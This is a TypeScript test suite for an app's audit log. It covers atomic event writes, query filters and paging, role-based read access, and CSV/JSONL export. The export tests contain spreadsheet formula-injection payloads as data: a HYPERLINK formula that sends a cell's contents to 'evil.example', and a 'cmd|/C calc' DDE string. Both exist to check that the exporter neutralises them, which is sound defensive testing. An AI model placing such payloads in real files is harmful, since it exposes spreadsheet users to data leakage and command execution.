import { randomBytes, randomUUID } from 'node:crypto';
import { and, asc, eq, sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { accounts, auditEvents, eventSeqs, orgs, type AuditEventRow } from '../../src/db/schema.js';
import { toCsv } from '../../src/domain/audit.js';
import { emit, withEvents } from '../../src/domain/events.js';
import { numberEvents } from '../../src/domain/event-numbers.js';
import { systemActor } from '../../src/domain/context.js';
import { useWorld, type World } from '../helpers/domain.js';

const world = useWorld();

const hex = () => randomBytes(3).toString('hex');
const HOUR = 3_600_000;

const csvHeader = ['id', 'at', 'orgId', 'actorType', 'actorId', 'actorLabel', 'via', 'action', 'targetType', 'targetId', 'before', 'after', 'seq'];

/** RFC 4180 reader, written independently of the code under test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
}

function csvRecords(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
}

async function allEventsOf(w: World, orgId: string) {
  return w.db.db.select().from(auditEvents).where(eq(auditEvents.orgId, orgId)).orderBy(asc(auditEvents.id));
}

/**
 * Makes the database refuse to store audit events with this action for the duration of `run`, to show
 * that a change whose event cannot be written is not made either (same transaction).
 */
async function withAuditFailing<T>(w: World, action: string, run: () => Promise<T>): Promise<T> {
  const trigger = `fail_${hex()}`;
  await w.db.pool.query(`
    create or replace function test_fail_audit() returns trigger language plpgsql as $$
    begin raise exception 'audit store refused %', new.action; end $$`);
  await w.db.pool.query(
    `create trigger ${trigger} before insert on audit_events for each row when (new.action = '${action}') execute function test_fail_audit()`,
  );
  try {
    return await run();
  } finally {
    await w.db.pool.query(`drop trigger ${trigger} on audit_events`);
  }
}

/** The database error the trigger raises, as drizzle wraps it. */
const auditRefused = { cause: { message: expect.stringMatching(/audit store refused/) } };

async function orgRow(w: World, id: string) {
  const [o] = await w.db.db.select().from(orgs).where(eq(orgs.id, id));
  return o;
}

async function accountRow(w: World, id: string) {
  const [a] = await w.db.db.select().from(accounts).where(eq(accounts.id, id));
  return a;
}

describe('audit events are written in the same transaction as the change', () => {
  it('a refused action writes no audit event', async () => {
    const w = world();
    const { org, owner } = await w.org('Refusals');
    const member = await w.member(org, owner.actor, 'member');
    const before = await w.count('audit_events');
    await expect(w.domain.orgs.rename(member.actor, org.id, 'Nope')).rejects.toMatchObject({ code: 'forbidden' });
    await expect(w.domain.orgs.updateSettings(member.actor, org.id, { seatLimit: 2 })).rejects.toMatchObject({ code: 'forbidden' });
    await expect(w.domain.orgs.delete(owner.actor, org.id, 'wrong name')).rejects.toMatchObject({ code: 'confirmation_mismatch' });
    await expect(w.domain.orgs.create(member.actor, { name: 'Taken', slug: org.slug })).rejects.toMatchObject({ code: 'slug_taken' });
    await expect(w.domain.accounts.rename(member.actor, '')).rejects.toMatchObject({ code: 'invalid_input' });
    expect(await w.count('audit_events')).toBe(before);
  });

  it('if the org.renamed event cannot be stored, the org keeps its name', async () => {
    const w = world();
    const { org, owner } = await w.org('Atomic Rename');
    await withAuditFailing(w, 'org.renamed', () => expect(w.domain.orgs.rename(owner.actor, org.id, 'Changed')).rejects.toMatchObject(auditRefused));
    expect((await orgRow(w, org.id))!.name).toBe(org.name);
    // And once the audit store works again, the same change goes through with its event.
    await w.domain.orgs.rename(owner.actor, org.id, 'Changed');
    expect((await allEventsOf(w, org.id)).filter((e) => e.action === 'org.renamed')).toHaveLength(1);
  });

  it('if the org.settings_changed event cannot be stored, the settings stay', async () => {
    const w = world();
    const { org, owner } = await w.org('Atomic Settings');
    await withAuditFailing(w, 'org.settings_changed', () =>
      expect(w.domain.orgs.updateSettings(owner.actor, org.id, { seatLimit: 3, inviteExpiry: 'never' })).rejects.toMatchObject(auditRefused),
    );
    expect(await orgRow(w, org.id)).toEqual(org);
  });

  it('if the org.deleted event cannot be stored, the org and its members are still there', async () => {
    const w = world();
    const { org, owner } = await w.org('Atomic Delete');
    await w.member(org, owner.actor, 'admin');
    await withAuditFailing(w, 'org.deleted', () => expect(w.domain.orgs.delete(owner.actor, org.id, org.name)).rejects.toMatchObject(auditRefused));
    expect(await orgRow(w, org.id)).toEqual(org);
    expect(await w.count('memberships', `org_id = '${org.id}'`)).toBe(2);
    expect((await accountRow(w, owner.account.id))!.activeOrgId).toBe(org.id);
  });

  it("if a new org's member.added event cannot be stored, no org, membership or org.created event remains", async () => {
    const w = world();
    const p = await w.person('Atomic Creator');
    const orgsBefore = await w.count('orgs');
    await withAuditFailing(w, 'member.added', () => expect(w.domain.orgs.create(p.actor, { name: `Atomic ${hex()}` })).rejects.toMatchObject(auditRefused));
    expect(await w.count('orgs')).toBe(orgsBefore);
    expect(await w.count('memberships', `account_id = '${p.account.id}'`)).toBe(0);
    expect(await w.count('audit_events', `action = 'org.created' and actor_id = '${p.account.id}'`)).toBe(0);
    expect((await accountRow(w, p.account.id))!.activeOrgId).toBeNull();
  });

  it('if the account.active_org_changed event cannot be stored, the active org stays', async () => {
    const w = world();
    const { org: first, owner } = await w.org('Atomic Switch');
    const second = await w.domain.orgs.create(owner.actor, { name: `Atomic Switch Two ${hex()}` });
    await withAuditFailing(w, 'account.active_org_changed', () =>
      expect(w.domain.orgs.switchActive(owner.actor, first.slug)).rejects.toMatchObject(auditRefused),
    );
    expect((await accountRow(w, owner.account.id))!.activeOrgId).toBe(second.id);
  });

  it('if the account.renamed or account.created event cannot be stored, the account is unchanged or not created', async () => {
    const w = world();
    const p = await w.person('Atomic Person');
    await withAuditFailing(w, 'account.renamed', () => expect(w.domain.accounts.rename(p.actor, 'Other Name')).rejects.toMatchObject(auditRefused));
    expect((await accountRow(w, p.account.id))!.displayName).toBe('Atomic Person');
    const email = `atomic.${hex()}@example.com`;
    await withAuditFailing(w, 'account.created', () => expect(w.domain.accounts.findOrCreateByEmail(email)).rejects.toMatchObject(auditRefused));
    expect(await w.domain.accounts.findByEmail(email)).toBeUndefined();
  });
});

describe('querying the audit log', () => {
  /** An org with events spread over four hours: creation, rename, an admin joining, then settings by the admin's owner. */
  async function history(w: World) {
    const t0 = w.clock.now();
    const { org, owner } = await w.org('History');
    w.clock.advanceHours(1);
    const t1 = w.clock.now();
    await w.domain.orgs.rename(owner.actor, org.id, `History Renamed ${hex()}`);
    w.clock.advanceHours(1);
    const t2 = w.clock.now();
    const admin = await w.member(org, owner.actor, 'admin');
    w.clock.advanceHours(1);
    const t3 = w.clock.now();
    await w.domain.orgs.updateSettings(owner.actor, org.id, { seatLimit: 50 });
    w.clock.advanceHours(1);
    return { org, owner, admin, t0, t1, t2, t3 };
  }

  it('owners read the whole log of their org, newest first', async () => {
    const w = world();
    const { org, owner } = await history(w);
    const events = await w.domain.audit.query(owner.actor, org.id);
    const stored = await allEventsOf(w, org.id);
    expect(events.map((e) => e.id)).toEqual(stored.map((e) => e.id).reverse());
    expect(events.map((e) => e.action)).toEqual(expect.arrayContaining(['invite.created', 'invite.accepted', 'member.added']));
    expect(events.map((e) => e.action).filter((a) => a.startsWith('org.'))).toEqual(['org.settings_changed', 'org.renamed', 'org.created']);
  });

  it('since and until select a date range, both ends included', async () => {
    const w = world();
    const { org, owner, t0, t1, t2, t3 } = await history(w);
    const stored = await allEventsOf(w, org.id);
    const query = async (f: { since?: Date | string; until?: Date | string }) => (await w.domain.audit.query(owner.actor, org.id, f)).map((e) => e.id);
    const expected = (since: Date, until: Date) =>
      stored
        .filter((e) => e.at >= since && e.at <= until)
        .map((e) => e.id)
        .reverse();
    const actions = async (f: { since?: Date | string; until?: Date | string }) => (await w.domain.audit.query(owner.actor, org.id, f)).map((e) => e.action);

    const end = new Date(t3.getTime() + HOUR);
    expect(await query({ since: t1 })).toEqual(expected(t1, end));
    expect(await query({ until: t1 })).toEqual(expected(t0, t1));
    expect(await query({ since: t1, until: t2 })).toEqual(expected(t1, t2));
    // Concretely: the rename at t1 is in both ranges that end or start at t1; creation is before, settings after.
    expect(await actions({ until: t1 })).toEqual(['org.renamed', 'member.added', 'org.created']);
    expect(await actions({ since: t1, until: t2 })).toEqual(expect.arrayContaining(['org.renamed', 'invite.created', 'invite.accepted']));
    expect(await actions({ since: t1, until: t2 })).not.toContain('org.created');
    expect(await actions({ since: t1, until: t2 })).not.toContain('org.settings_changed');
    expect(await actions({ since: t3.toISOString() })).toEqual(['org.settings_changed']);
    expect(await actions({ since: end })).toEqual([]);
    expect(await actions({ since: t3, until: t1 })).toEqual([]);
  });

  it('filters by actor, target type, target id and action', async () => {
    const w = world();
    const { org, owner, admin } = await history(w);
    const stored = (await allEventsOf(w, org.id)).reverse();
    const q = (f: Parameters<typeof w.domain.audit.query>[2]) => w.domain.audit.query(owner.actor, org.id, f);
    const ids = (rows: { id: number }[]) => rows.map((e) => e.id);

    const byAdmin = await q({ actorId: admin.account.id });
    expect(ids(byAdmin)).toEqual(ids(stored.filter((e) => e.actorId === admin.account.id)));
    expect(byAdmin.map((e) => e.action)).toContain('invite.accepted');
    expect(byAdmin.map((e) => e.action)).not.toContain('org.renamed');

    const invites = await q({ targetType: 'invite' });
    expect(ids(invites)).toEqual(ids(stored.filter((e) => e.targetType === 'invite')));
    expect(invites.map((e) => e.action)).toEqual(expect.arrayContaining(['invite.accepted', 'invite.created']));
    expect(new Set(invites.map((e) => e.targetId)).size).toBe(1);

    const onOrg = await q({ targetId: org.id });
    expect(onOrg.map((e) => e.action)).toEqual(['org.settings_changed', 'org.renamed', 'org.created']);

    const onInvite = await q({ targetId: invites[0]!.targetId! });
    expect(ids(onInvite)).toEqual(ids(invites));

    expect((await q({ action: 'org.renamed' })).map((e) => e.action)).toEqual(['org.renamed']);
    expect(await q({ action: 'member.removed' })).toEqual([]);
    expect((await q({ actorId: owner.account.id, action: 'org.created' })).map((e) => e.targetId)).toEqual([org.id]);
    expect(await q({ actorId: randomUUID() })).toEqual([]);
  });

  it('limit and beforeId page through the log without gaps or repeats', async () => {
    const w = world();
    const { org, owner } = await history(w);
    const all = await w.domain.audit.query(owner.actor, org.id);
    expect(all.length).toBeGreaterThan(6);
    const seen: number[] = [];
    let beforeId: number | undefined;
    for (let pages = 0; pages < 10; pages++) {
      const page = await w.domain.audit.query(owner.actor, org.id, { limit: 3, beforeId });
      expect(page.length).toBeLessThanOrEqual(3);
      if (!page.length) break;
      seen.push(...page.map((e) => e.id));
      beforeId = page.at(-1)!.id;
    }
    expect(seen).toEqual(all.map((e) => e.id));
    expect((await w.domain.audit.query(owner.actor, org.id, { limit: 1 })).map((e) => e.id)).toEqual([all[0]!.id]);
  });

  it('the default page is 100 events and at most 1000 can be asked for', async () => {
    const w = world();
    const { org, owner } = await w.org('Busy');
    await w.db.db.execute(sql`
      insert into audit_events (org_id, actor_type, action, target_type, at)
      select ${org.id}::uuid, 'system', 'invite.expired', 'invite', now() from generate_series(1, 150)`);
    expect(await w.domain.audit.query(owner.actor, org.id)).toHaveLength(100);
    expect(await w.domain.audit.query(owner.actor, org.id, { limit: 1000 })).toHaveLength(152);
    for (const limit of [0, 1001, 2.5]) {
      await expect(w.domain.audit.query(owner.actor, org.id, { limit })).rejects.toMatchObject({ code: 'invalid_input' });
    }
  });

  it('a filter that makes no sense is refused with invalid_input', async () => {
    const w = world();
    const { org, owner } = await w.org('Bad Filters');
    await expect(w.domain.audit.query(owner.actor, org.id, { since: 'last tuesday-ish' })).rejects.toMatchObject({
      code: 'invalid_input',
      message: expect.stringMatching(/since/),
    });
    await expect(w.domain.audit.query(owner.actor, org.id, { beforeId: -1 })).rejects.toMatchObject({ code: 'invalid_input' });
    await expect(w.domain.audit.query(owner.actor, org.id, { action: '' })).rejects.toMatchObject({ code: 'invalid_input' });
  });
});

describe('who may read the audit log', () => {
  it('owners and admins may read it', async () => {
    const w = world();
    const { org, owner } = await w.org('Readers');
    const admin = await w.member(org, owner.actor, 'admin');
    expect((await w.domain.audit.query(owner.actor, org.id)).length).toBeGreaterThan(0);
    expect((await w.domain.audit.query(admin.actor, org.id)).map((e) => e.id)).toEqual((await w.domain.audit.query(owner.actor, org.id)).map((e) => e.id));
  });

  it.each(['member', 'billing', 'developer'] as const)('a(n) %s may not read or export it', async (role) => {
    const w = world();
    const { org, owner } = await w.org('No Readers');
    const p = await w.member(org, owner.actor, role);
    const refusal = { code: 'forbidden', message: expect.stringMatching(/audit log/) };
    await expect(w.domain.audit.query(p.actor, org.id)).rejects.toMatchObject(refusal);
    await expect(w.domain.audit.export(p.actor, org.id, 'csv')).rejects.toMatchObject(refusal);
    await expect(w.domain.audit.export(p.actor, org.id, 'jsonl')).rejects.toMatchObject(refusal);
  });

  it('a suspended admin may not read it', async () => {
    const w = world();
    const { org, owner } = await w.org('Suspended Reader');
    const admin = await w.member(org, owner.actor, 'admin');
    await w.db.db.execute(sql`update memberships set status = 'suspended' where org_id = ${org.id} and account_id = ${admin.account.id}`);
    await expect(w.domain.audit.query(admin.actor, org.id)).rejects.toMatchObject({ code: 'forbidden' });
    await expect(w.domain.audit.export(admin.actor, org.id, 'csv')).rejects.toMatchObject({ code: 'forbidden' });
  });

  it('someone outside the org cannot read its log, and a bad or unknown org id is refused', async () => {
    const w = world();
    const { org } = await w.org('Closed');
    const { owner: stranger } = await w.org('Stranger');
    await expect(w.domain.audit.query(stranger.actor, org.id)).rejects.toMatchObject({ code: 'not_a_member' });
    await expect(w.domain.audit.export(stranger.actor, org.id, 'jsonl')).rejects.toMatchObject({ code: 'not_a_member' });
    await expect(w.domain.audit.query(stranger.actor, randomUUID())).rejects.toMatchObject({ code: 'org_not_found' });
    await expect(w.domain.audit.query(stranger.actor, 'not-an-id')).rejects.toMatchObject({ code: 'invalid_input' });
  });

  it("another org's events never appear, whatever the filter", async () => {
    const w = world();
    const { org: mine, owner: me } = await w.org('Mine');
    const { org: theirs, owner: them } = await w.org('Theirs');
    await w.domain.orgs.rename(them.actor, theirs.id, `Theirs Renamed ${hex()}`);
    // I am a member of theirs too, so their events exist with me as a possible reader elsewhere.
    await w.member(theirs, them.actor, 'admin');
    await w.domain.accounts.rename(me.actor, 'Me Renamed');

    const q = (f: Parameters<typeof w.domain.audit.query>[2] = {}) => w.domain.audit.query(me.actor, mine.id, f);
    expect((await q()).every((e) => e.orgId === mine.id)).toBe(true);
    expect(await q({ actorId: them.account.id })).toEqual([]);
    expect(await q({ targetId: theirs.id })).toEqual([]);
    expect(await q({ action: 'org.renamed' })).toEqual([]);
    // Events about my account that belong to no org are not in the org's log either.
    expect(await q({ action: 'account.renamed' })).toEqual([]);
    const exported = await w.domain.audit.export(me.actor, mine.id, 'jsonl');
    expect(exported).not.toContain(theirs.id);
    expect(exported).not.toContain(them.account.id);
  });
});

describe('exporting the audit log', () => {
  it('JSON lines: one parseable JSON object per line, the same events as the log', async () => {
    const w = world();
    const { org, owner } = await w.org('Json Export');
    await w.member(org, owner.actor, 'developer');
    await w.domain.orgs.rename(owner.actor, org.id, 'Json "Quoted", Name');
    const text = await w.domain.audit.export(owner.actor, org.id, 'jsonl');
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.slice(0, -1).split('\n');
    const parsed = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
    const events = await w.domain.audit.query(owner.actor, org.id);
    expect(parsed.map((p) => p.id)).toEqual(events.map((e) => e.id));
    expect(parsed.map((p) => p.action)).toEqual(events.map((e) => e.action));
    const renamed = parsed.find((p) => p.action === 'org.renamed')!;
    expect(renamed).toMatchObject({ orgId: org.id, after: { name: 'Json "Quoted", Name' }, before: { name: org.name } });
    expect(new Date(renamed.at as string).toISOString()).toBe(renamed.at);
  });

  it('an export honours the filters', async () => {
    const w = world();
    const { org, owner } = await w.org('Filtered Export');
    await w.domain.orgs.rename(owner.actor, org.id, `Filtered ${hex()}`);
    const jsonl = await w.domain.audit.export(owner.actor, org.id, 'jsonl', { action: 'org.renamed' });
    expect(
      jsonl
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l).action),
    ).toEqual(['org.renamed']);
    const csv = await w.domain.audit.export(owner.actor, org.id, 'csv', { action: 'no.such.action' });
    expect(csv).toBe(`${csvHeader.join(',')}\r\n`);
    expect(await w.domain.audit.export(owner.actor, org.id, 'jsonl', { action: 'no.such.action' })).toBe('');
  });

  it('an export contains every event, even beyond one page of 1000', async () => {
    const w = world();
    const { org, owner } = await w.org('Huge Export');
    await w.db.db.execute(sql`
      insert into audit_events (org_id, actor_type, action, target_type, at)
      select ${org.id}::uuid, 'system', 'invite.expired', 'invite', now() from generate_series(1, 2100)`);
    const lines = (await w.domain.audit.export(owner.actor, org.id, 'jsonl')).trim().split('\n');
    expect(lines).toHaveLength(2102);
    const ids = lines.map((l) => JSON.parse(l).id as number);
    expect(new Set(ids).size).toBe(2102);
    expect(csvRecords(await w.domain.audit.export(owner.actor, org.id, 'csv'))).toHaveLength(2102);
  });

  it('CSV: a header row, then one row per event that reads back to the stored values', async () => {
    const w = world();
    const { org, owner } = await w.org('Csv Export');
    await w.domain.accounts.rename(owner.actor, 'Doe, "JJ" Jane');
    const newName = `Acme, "The" Company ${hex()}`;
    await w.domain.orgs.rename(owner.actor, org.id, newName);
    const text = await w.domain.audit.export(owner.actor, org.id, 'csv');
    expect(text.split('\r\n')[0]).toBe(csvHeader.join(','));
    const records = csvRecords(text);
    const events = await w.domain.audit.query(owner.actor, org.id);
    expect(records).toHaveLength(events.length);
    expect(records.map((r) => Number(r.id))).toEqual(events.map((e) => e.id));
    const renamed = records.find((r) => r.action === 'org.renamed')!;
    expect(renamed).toMatchObject({ orgId: org.id, actorType: 'account', actorId: owner.account.id, targetType: 'org', targetId: org.id, via: 'api' });
    expect(renamed.actorLabel).toBe(`Doe, "JJ" Jane <${owner.account.email}>`);
    expect(JSON.parse(renamed.after!)).toEqual({ name: newName });
    expect(JSON.parse(renamed.before!)).toEqual({ name: org.name });
    expect(new Date(renamed.at!).getTime()).toBe(events.find((e) => e.action === 'org.renamed')!.at.getTime());
    // Empty values are empty cells, not "null".
    expect(records.find((r) => r.action === 'org.created')!.before).toBe('');
  });

  it('CSV quotes commas, quotes and line breaks', () => {
    const row: AuditEventRow = {
      id: 7,
      seq: 7,
      at: new Date('2026-01-05T09:00:00.000Z'),
      orgId: randomUUID(),
      actorType: 'account',
      actorId: 'a1',
      actorLabel: 'Doe, Jane',
      via: 'slack',
      action: 'join_request.created',
      targetType: 'join_request',
      targetId: 'He said "hi"',
      before: null,
      after: { message: 'line one\nline two' },
    };
    const text = toCsv([row]);
    expect(text).toContain(',"Doe, Jane",');
    expect(text).toContain(',"He said ""hi""",');
    expect(text).toContain(',"{""message"":""line one\\nline two""}",7\r\n');
    const [rec] = csvRecords(text);
    expect(rec).toMatchObject({ actorLabel: 'Doe, Jane', targetId: 'He said "hi"', before: '', at: '2026-01-05T09:00:00.000Z' });
    expect(JSON.parse(rec!.after!)).toEqual({ message: 'line one\nline two' });
    // A raw line break inside a cell is quoted, so it does not start a new record.
    const raw = toCsv([{ ...row, targetId: 'first\r\nsecond', actorLabel: 'one\ntwo' }]);
    expect(raw).toContain('"first\r\nsecond"');
    expect(raw).toContain('"one\ntwo"');
    expect(csvRecords(raw)).toHaveLength(1);
    expect(csvRecords(raw)[0]).toMatchObject({ targetId: 'first\r\nsecond', actorLabel: 'one\ntwo' });
  });

  it('a display name starting with "=" is written as text, prefixed with a quote, so spreadsheets do not run it', async () => {
    const w = world();
    const { org, owner } = await w.org('Formula');
    const evil = await w.member(org, owner.actor, 'admin');
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await w.domain.accounts.rename(evil.actor, formula);
    await w.domain.members.setBillingEmails(evil.actor, org.id, evil.account.id, true);
    const text = await w.domain.audit.export(owner.actor, org.id, 'csv');
    const rec = csvRecords(text).find((r) => r.action === 'member.billing_emails_changed')!;
    expect(rec.actorLabel).toBe(`'${formula} <${evil.account.email}>`);
    // No cell of the file begins with a formula character.
    for (const r of parseCsv(text)) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it.each(['+', '-', '@', '\t'])('a cell starting with %j is defused too', (lead) => {
    const row = {
      id: 1,
      at: new Date('2026-01-05T09:00:00.000Z'),
      orgId: null,
      actorType: 'account',
      actorId: 'a',
      actorLabel: `${lead}cmd|' /C calc'!A0`,
      via: 'slack',
      action: 'account.renamed',
      targetType: 'account',
      targetId: 'a',
      before: null,
      after: null,
      seq: null,
    } satisfies AuditEventRow;
    const [rec] = csvRecords(toCsv([row]));
    expect(rec!.actorLabel).toBe(`'${lead}cmd|' /C calc'!A0`);
  });
});

describe('events without an org', () => {
  it('account events are stored with no org and are not readable through any org', async () => {
    const w = world();
    const { org, owner } = await w.org('Account Events');
    await w.domain.accounts.rename(owner.actor, 'Renamed Owner');
    const [e] = await w.db.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.action, 'account.renamed'), eq(auditEvents.targetId, owner.account.id)));
    expect(e).toMatchObject({ orgId: null, actorId: owner.account.id });
    expect(await w.domain.audit.query(owner.actor, org.id, { action: 'account.renamed' })).toEqual([]);
  });
});

describe('audit events written at the end of a transaction', () => {
  it('a transaction recording 6,000 events (a 6,000-member group sync) writes them all, in order', async () => {
    const w = world();
    const orgId = randomUUID();
    const n = 6_000; // as separate parameters (11 each) these would pass PostgreSQL's 65,535-parameter limit
    await withEvents(w.db.db).transaction(async (tx) => {
      for (let i = 0; i < n; i++) {
        await emit(tx, systemActor('test'), { orgId, action: 'member.role_changed', targetType: 'membership', targetId: String(i) }, new Date());
      }
    });
    const rows = await w.db.db.select({ targetId: auditEvents.targetId }).from(auditEvents).where(eq(auditEvents.orgId, orgId)).orderBy(asc(auditEvents.id));
    expect(rows.map((r) => Number(r.targetId))).toEqual(Array.from({ length: n }, (_, i) => i));
  });

  it('however many events a transaction emits, it locks nothing org-wide: its events are numbered after it commits, in the order written', async () => {
    const w = world();
    const orgId = randomUUID();
    const event = (i: number) => ({ orgId, action: 'member.role_changed' as const, targetType: 'membership' as const, targetId: String(i) });
    await withEvents(w.db.db).transaction((tx) => emit(tx, systemActor('test'), event(0), new Date()));
    const other = await w.db.pool.connect();
    try {
      await withEvents(w.db.db).transaction(async (tx) => {
        for (let i = 1; i <= 2_500; i++) await emit(tx, systemActor('test'), event(i), new Date());
      });
      // Written, committed, and not yet numbered: the write path never touched the org's number row.
      expect((await other.query('select count(*)::int as n from unnumbered_events where org_id = $1', [orgId])).rows[0].n).toBe(2_501);
      expect((await other.query('select count(*)::int as n from event_seqs where org_id = $1', [orgId])).rows[0].n).toBe(0);
      await other.query('begin');
      const r = await other.query('select last_seq from org_event_seqs where org_id = $1 for update nowait', [orgId]);
      expect(r.rows).toEqual([]);
      await other.query('rollback');
    } finally {
      other.release();
    }
    expect(await numberEvents(w.db.db)).toBeGreaterThanOrEqual(2_501);
    const seqs = await w.db.db
      .select({ seq: eventSeqs.seq })
      .from(auditEvents)
      .leftJoin(eventSeqs, eq(eventSeqs.eventId, auditEvents.id))
      .where(eq(auditEvents.orgId, orgId))
      .orderBy(asc(auditEvents.id));
    expect(seqs.map((r) => r.seq)).toEqual(Array.from({ length: 2_501 }, (_, i) => i + 1));
  });

  it('events of a transaction that fails are not written', async () => {
    const w = world();
    const orgId = randomUUID();
    await expect(
      withEvents(w.db.db).transaction(async (tx) => {
        for (let i = 0; i < 1_500; i++) {
          await emit(tx, systemActor('test'), { orgId, action: 'member.role_changed', targetType: 'membership', targetId: String(i) }, new Date());
        }
        throw new Error('the change failed');
      }),
    ).rejects.toThrow('the change failed');
    expect(await w.db.db.select().from(auditEvents).where(eq(auditEvents.orgId, orgId))).toEqual([]);
  });
});
